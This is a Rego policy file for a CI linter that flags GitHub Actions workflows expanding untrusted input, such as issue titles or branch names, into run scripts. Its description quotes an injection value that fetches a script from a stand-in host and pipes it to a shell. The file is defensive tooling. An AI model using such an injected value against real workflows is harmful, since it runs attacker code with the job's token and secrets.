# METADATA
# title: Workflows do not expand untrusted input into scripts
# description: >-
#   `${{ }}` is expanded into the script text before the shell runs it, so an issue title
#   or branch name like `"; curl evil.sh | sh #` becomes a command, run with the job's token
#   and secrets. This covers `run:` steps and `actions/github-script` scripts. The untrusted
#   expressions are the setting `ci.untrusted_contexts`: issue, pull request, comment and
#   review text, branch names, commit messages and authors.
# related_resources:
#   - ref: https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
# custom:
#   id: ci/no-script-injection
#   severity: error
#   level: silver
#   input: github-actions
#   remediation: >-
#     Pass the value through an environment variable and quote it in the script
#     (`env: {TITLE: "${{ github.event.issue.title }}"}` then `echo "$TITLE"`).
#   config: [ci.untrusted_contexts]
#   examples:
#     fail: |
#       - run: echo "${{ github.event.pull_request.title }}"
#     pass: |
#       - run: echo "$TITLE"
#         env:
#           TITLE: ${{ github.event.pull_request.title }}
package paved.ci.no_script_injection

import data.paved.lib.ci
import data.paved.lib.config
import rego.v1

# Scripts whose text the expressions are expanded into: {value, path}.
scripts contains {"value": step.value.run, "path": array.concat(step.path, ["run"])} if {
	some step in data.paved.lib.ci.github_steps
	is_string(step.value.run)
}

scripts contains {"value": step.value["with"].script, "path": array.concat(step.path, ["with", "script"])} if {
	some step in data.paved.lib.ci.github_steps
	ci.uses_action(step.value, "actions/github-script")
	is_string(step.value["with"].script)
}

deny contains {"msg": msg, "path": script.path} if {
	some script in scripts
	some expression in regex.find_n(`\$\{\{[^}]*\}\}`, script.value, -1)
	some pattern in config.setting("ci", "untrusted_contexts")
	regex.match(pattern, lower(expression))
	msg := sprintf(
		"the script expands %s, which anyone opening an issue or pull request controls; pass it through env",
		[expression],
	)
}
